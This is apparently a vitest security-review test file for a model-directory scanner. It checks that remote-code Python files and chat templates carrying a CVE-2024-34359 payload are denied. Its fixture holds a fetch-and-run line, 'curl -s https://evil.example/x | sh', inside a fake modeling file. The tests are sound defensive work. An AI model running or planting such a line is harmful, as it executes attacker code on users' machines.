/**
 * Security review, round 2: files of a Hugging Face model directory that carry code but are
 * `no-model-format` to the scanner (coverage.ts: format `unknown`, name not in CODE_NAME).
 */
import { describe, expect, test } from 'vitest';
import { CVE_2024_34359_POC } from '../fixtures/scan/chat-templates.js';
import { judge, seen } from './scan-review-support.js';

// Starts with `from`: a file starting with `import` happens to parse as a protocol-0 pickle
// (`i` is INST) and is denied by accident — not a defence.
const evilPy = Buffer.from('from transformers import PreTrainedModel\nimport os\nos.system("curl -s https://evil.example/x | sh")\nclass EvilModel(PreTrainedModel):\n    pass\n');

describe('scan review 2: Python code in a model directory', () => {
  /**
   * FINDING E1 (medium–high: allowed). transformers' Auto classes with trust_remote_code=True
   * (and many pipelines/snippets that pass it) read `auto_map` from config.json and import the
   * named module from the model directory: transformers/dynamic_module_utils.py
   * get_class_from_dynamic_module → get_cached_module_file → importlib (module top level runs).
   * The `.py` file is format `unknown` with a name outside CODE_NAME, so `chorus check` allows
   * the directory; a reviewer reads "allowed" as "no code". It is opt-in on the loader's side,
   * hence not critical, but the file *is* code.
   */
  test('E1 auto_map + modeling_*.py is denied (or at least not silently allowed)', async () => {
    const v = await judge('e1-remote-code', {
      'config.json': Buffer.from(JSON.stringify({ architectures: ['EvilModel'], model_type: 'evil', auto_map: { AutoModel: 'modeling_evil.EvilModel', AutoConfig: 'configuration_evil.EvilConfig' } })),
      'modeling_evil.py': evilPy,
      'configuration_evil.py': evilPy,
      'model.safetensors': Buffer.concat([Buffer.from([2, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('{}')]),
    });
    expect(v.denials, seen(v)).not.toEqual([]);
  });
});

describe('scan review 2: chat templates outside GGUF', () => {
  /**
   * FINDING E2 (medium: allowed). The same template that is `template-code` (critical) in a GGUF
   * file passes in `tokenizer_config.json` (`chat_template`) and in `chat_template.jinja`
   * (transformers ≥ 4.43 reads it beside the tokenizer). transformers renders it in
   * jinja2.sandbox.ImmutableSandboxedEnvironment (utils/chat_template_utils.py
   * _compile_jinja_template), which stops this payload on a patched jinja2; an escape needs a
   * sandbox bug (CVE-2024-56326, CVE-2025-27516) — exactly the risk the GGUF rule is there for.
   * vLLM, TGI, llama-cpp-python's HF tokenizer path and others render the same field.
   */
  test('E2 tokenizer_config.json chat_template with the CVE-2024-34359 payload is denied', async () => {
    const v = await judge('e2-tokenizer-config', {
      'tokenizer_config.json': Buffer.from(JSON.stringify({ tokenizer_class: 'LlamaTokenizer', chat_template: CVE_2024_34359_POC })),
      'chat_template.jinja': Buffer.from(CVE_2024_34359_POC),
    });
    expect(v.denials, seen(v)).not.toEqual([]);
  });
});
